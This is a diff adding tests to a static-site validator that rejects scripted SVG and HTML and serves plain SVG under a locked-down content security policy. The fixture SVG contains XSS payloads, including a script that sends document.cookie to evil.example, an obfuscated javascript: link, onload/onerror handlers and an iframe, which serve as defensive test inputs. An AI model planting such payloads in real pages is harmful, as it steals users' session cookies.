@@ -288,3 +288,49 @@ def test_a_bug_prints_a_located_line_and_never_a_traceback(tmp_path):
     assert "pipeline: internal error: RuntimeError" in result.stderr and "please report it" in result.stderr
     assert TOKEN not in result.stdout + result.stderr
     assert "Traceback" not in result.stderr
+
+
+SCRIPTED_SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
+  <rect width="10" height="10"/>
+  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
+  <a xlink:href="java&#x09;script:alert(1)"><text>x</text></a>
+  <image href="x" onload="alert(1)"/>
+  <foreignObject><iframe src="https://evil.example/"></iframe></foreignObject>
+</svg>
+"""
+
+
+def test_scripts_in_static_svg_and_html_are_refused_where_they_are(make_site, tmp_path):
+    root = make_site(
+        {**PAIR, "static/images/bad.svg": SCRIPTED_SVG, "static/page.html": "<p>hi</p>\n<p><img src=x onerror=alert(1)></p>\n"}
+    )
+    result = validate_json(root)
+    assert result.exit_code == 1
+    found = [(path, line) for path, line, _, code in result.diagnostics if code == "static-unsafe"]
+    assert found == [
+        ("static/images/bad.svg", 3),
+        ("static/images/bad.svg", 4),
+        ("static/images/bad.svg", 5),
+        ("static/images/bad.svg", 6),
+        ("static/images/bad.svg", 6),
+        ("static/page.html", 2),
+    ]
+    assert run("build", "--root", str(root), "--out", str(tmp_path / "out")).exit_code == 1
+    assert not (tmp_path / "out").exists()
+
+
+def test_plain_svg_is_published_and_previewed_under_a_policy_that_runs_nothing(make_site, tmp_path):
+    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><a href="/en/"><circle r="4"/></a></svg>\n'
+    root = make_site({**PAIR, "static/images/ok.svg": svg})
+    out = tmp_path / "out"
+    assert run("build", "--root", str(root), "--out", str(out)).exit_code == 0
+    assert (out / "images/ok.svg").read_text("utf-8") == svg
+    httpd = serve.server(out, 0)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    try:
+        with urllib.request.urlopen(f"http://127.0.0.1:{httpd.server_address[1]}/images/ok.svg") as answer:
+            assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
+            assert "sandbox" in answer.headers["Content-Security-Policy"]
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
